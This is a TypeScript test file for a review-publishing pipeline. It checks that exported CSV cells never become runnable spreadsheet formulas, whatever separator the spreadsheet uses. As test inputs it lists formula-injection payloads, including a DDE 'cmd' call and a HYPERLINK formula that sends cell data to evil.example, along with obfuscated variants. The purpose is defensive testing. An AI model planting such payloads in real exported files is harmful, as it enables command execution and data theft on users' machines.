import { readFileSync } from 'node:fs'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { writeCsv } from '../../pipeline/canonical/csv.ts'
import { wholeFile } from '../../pipeline/diagnostics/place.ts'
import { formulasIn } from '../../pipeline/rules/no-formula-cell.ts'
import { build } from '../../pipeline/verbs/build.ts'
import { check } from '../../pipeline/verbs/check.ts'
import { memoryFiles } from './memory-files.ts'
import { change, earlierVersion, type Files, filesUnder, MINI, README, runOn, sourcesOf } from './mini-review.ts'

/**
 * What a spreadsheet would run of a published sheet, wherever it is opened. Where the comma separates cells, quotes hold a cell together and a number is a
 * number. Where the semicolon or the tab does, the commas and quotes are text, so a cell begins after each of them and goes on into the next column.
 */
function runnableIn(csv: string): string[] {
  const byComma = (parse(csv, { bom: true }) as string[][]).flat()
  const isNumber = (cell: string) => /^([+-]?[\d.,]+%?|[+-])$/.test(cell.trim())
  return [...byComma.filter(cell => begins(cell) && !isNumber(cell)), ...csv.split(/[;\t\n]/).filter(begins)]
}

const begins = (cell: string) => /^["\s]*[=+\-@]/.test(cell.normalize('NFKC'))

const NOTE = 'sources/studies/mackey-1997-quay/note.md'
const PASSAGE = 'Evening meetings raised the number of families with a say.'

/** The mini review with a text in a title and in a passage. */
function saying(text: string): Files {
  const files = earlierVersion()
  change(files, NOTE, PASSAGE, `Families waited${text}`)
  change(files, NOTE, '# The quay and the yard', `# The quay and the yard: a walk${text}`)
  return files
}

async function published(sources: Files): Promise<[string, string][]> {
  const files = memoryFiles([...sources, ['README.md', README]])
  const said = await build(runOn(files))
  expect(said.code, said.stdout + said.stderr).toBe(0)
  return [...files.all]
    .filter(([path]) => path.endsWith('.csv') && path.startsWith('output/'))
    .map(([path, bytes]) => [path, bytes.toString()])
}

describe('no published cell runs, whatever separates them', () => {
  test('of the review that is published here', () => {
    const paths = filesUnder('output').filter(path => path.endsWith('.csv'))
    expect(paths.length).toBeGreaterThan(30)
    expect(
      paths.flatMap(path => runnableIn(readFileSync(`output/${path}`, 'utf8')).map(cell => `${path}: ${cell}`)),
    ).toEqual([])
  })

  test.each([
    ['the mini review', () => sourcesOf(MINI)],
    ['the review of nurses', () => sourcesOf('tests/fixtures/reviews/nurses/sources')],
    ['a review that comes near to it', () => saying(', "so"; "b" | c -5; (=1+1); 5;6; −7 %, @home, a=b; “@” and +;')],
  ])('of %s', async (_, sources) => {
    const tables = await published(sources())
    expect(tables.length).toBeGreaterThan(20)
    expect(tables.flatMap(([path, text]) => runnableIn(text).map(cell => `${path}: ${cell}`))).toEqual([])
  })
})

test.each([
  ";=cmd|' /C calc'!A0",
  ';@SUM(1)',
  ';=HYPERLINK("http://evil.example"&A1;"open")',
  '; "=1+1"',
  ';""=1+1',
  ';\u00a0\u3000＝1+1',
  ';-5',
  '\t+1+1',
])('a text with %j is refused wherever it stands, and the published sheet would run it', async text => {
  const { stdout, code } = await check(runOn(memoryFiles(saying(text))))
  expect(code).toBe(1)
  for (const line of [1, 39])
    expect(stdout).toMatch(new RegExp(`^${NOTE}:${line}:\\d+-\\d+: error: .* \\[no-formula-cell\\]$`, 'm'))
  expect(runnableIn(writeCsv(['id', 'text'], [['a', `Families waited${text}`]]))).not.toEqual([])
})

test('two texts that are let in never make a formula of their row', () => {
  const cell = fc.string({ unit: fc.constantFrom(...';;""=+-@＝, |1a\t\n'), maxLength: 8 })
  fc.assert(
    fc.property(cell, cell, (one, other) => {
      fc.pre(formulasIn([one, other].map(text => ({ text, place: wholeFile('x') }))).length === 0)
      expect(runnableIn(writeCsv(['id', 'one', 'other'], [['a', one, other]]))).toEqual([])
    }),
    { numRuns: 2_000 },
  )
})
